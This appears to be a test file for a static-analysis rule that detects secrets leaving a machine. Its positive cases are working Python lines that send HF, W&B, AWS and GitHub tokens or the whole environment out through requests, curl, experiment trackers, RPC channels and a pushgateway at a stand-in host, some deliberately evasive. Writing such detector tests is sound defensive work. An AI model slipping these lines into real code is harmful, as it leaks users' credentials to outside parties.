import hashlib
import json
import os
import subprocess
import urllib.request

import huggingface_hub
import requests
import requests as rq
from transformers import AutoModel

import mlflow
import wandb


def report_run(url):
    # ruleid: egress-secret-exfil
    requests.post(url, json={"token": os.environ["HF_TOKEN"]}, timeout=5)
    key = os.environ.get("WANDB_API_KEY")
    # ruleid: egress-secret-exfil
    requests.get(f"{url}/ping?k={key}")
    env = json.dumps(dict(os.environ)).encode()
    # ruleid: egress-secret-exfil
    urllib.request.urlopen(url, data=env)


def evasive(url):
    name = "AWS_SECRET_" + "ACCESS_KEY"
    secret = os.getenv(name)
    # ruleid: egress-secret-exfil
    rq.request("PUT", url, data=secret)
    s = requests.Session()
    tok = huggingface_hub.get_token()
    # ruleid: egress-secret-exfil
    s.get(url, headers={"X-Debug": tok})
    creds = open(os.path.expanduser("~") + "/.aws/credentials").read() if False else ""
    gh = os.environ["GITHUB_TOKEN"]
    # ruleid: egress-secret-exfil
    subprocess.run(["curl", "-H", f"Authorization: {gh}", url])
    return creds


def setup_tracking(model_name, url):
    # ok: egress-secret-exfil
    wandb.login(key=os.environ["WANDB_API_KEY"])
    # ok: egress-secret-exfil
    huggingface_hub.login(token=os.environ["HF_TOKEN"])
    # ok: egress-secret-exfil
    model = AutoModel.from_pretrained(model_name, token=os.environ.get("HF_TOKEN"))
    # ok: egress-secret-exfil
    resp = requests.get(url, proxies={"https": os.environ.get("HTTPS_PROXY")}, timeout=30)
    # ok: egress-secret-exfil
    requests.post(url, json={"run": os.environ.get("RUN_NAME"), "rank": os.environ["RANK"]})
    # ok: egress-secret-exfil
    requests.post(url, json={"token_sha": hashlib.sha256(os.environ["HF_TOKEN"].encode()).hexdigest()})
    return model, resp


def launch_eval(cmd, gpu):
    env = os.environ.copy()
    env["CUDA_VISIBLE_DEVICES"] = str(gpu)
    # ok: egress-secret-exfil
    return subprocess.run(cmd, env=env, check=True)


def log_runtime_env(writer, args):
    # issue #8: secrets sent through the experiment tracker
    creds = {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY"))}
    # ruleid: egress-secret-exfil
    wandb.config.update({"runtime_env": creds})
    # ruleid: egress-secret-exfil
    mlflow.log_param("hf", os.environ["HF_TOKEN"])
    # ruleid: egress-secret-exfil
    writer.add_text("env", str(os.environ))
    # ok: egress-secret-exfil
    wandb.config.update(vars(args))
    # ok: egress-secret-exfil
    wandb.log({"job": os.environ.get("SLURM_JOB_ID"), "host": os.environ.get("HOSTNAME")})


# Issue #16: channels that are not HTTP, and a client kept on self.
import xmlrpc.client
from multiprocessing.connection import Client

from torch.distributed import TCPStore


def publish_worker_info(master, port, rank):
    store = TCPStore(master, port, is_master=False)
    # ruleid: egress-secret-exfil
    store.set(f"worker/{rank}", json.dumps(dict(os.environ)))
    # ok: egress-secret-exfil
    store.set(f"ready/{rank}", "1")


def ship_token(dashboard):
    with Client(dashboard) as conn:
        # ruleid: egress-secret-exfil
        conn.send(os.environ.get("WANDB_API_KEY"))


class SchedulerReporter:
    def __init__(self, endpoint):
        self.proxy = xmlrpc.client.ServerProxy(endpoint)
        self.session = requests.Session()

    def on_log(self, step, logs):
        # ruleid: egress-secret-exfil
        self.proxy.report(step, logs, {k: v for k, v in os.environ.items() if "TOKEN" in k})
        # ruleid: egress-secret-exfil
        self.session.post("https://metrics.internal/v1", json={"token": os.environ["HF_TOKEN"]})
        # ok: egress-secret-exfil
        self.proxy.report(step, logs, {"job": os.environ.get("SLURM_JOB_ID")})

    def heartbeat(self):
        # ok: egress-secret-exfil
        self.proxy.ping(len(os.environ["HF_TOKEN"]))


# issue #16 red-team pass: a metrics client as the channel
from prometheus_client import CollectorRegistry, Gauge, Info, push_to_gateway

_registry = CollectorRegistry()
_build = Info("train_build", "Build info", registry=_registry)
_tps = Gauge("train_tps", "Throughput", registry=_registry)


def report_build(tps):
    _tps.set(tps)
    # ruleid: egress-secret-exfil
    _build.info({"host": "node1", "hub": os.environ.get("HF_TOKEN", "")})
    # ok: egress-secret-exfil
    _build.info({"host": "node1", "hub_logged_in": str(bool(os.environ.get("HF_TOKEN")))})
    push_to_gateway("pushgw.example.net:9091", job="trainer", registry=_registry)


def push_with_key(tps):
    # ruleid: egress-secret-exfil
    push_to_gateway("pushgw.example.net:9091", job="trainer", grouping_key={"k": os.environ["WANDB_API_KEY"]})
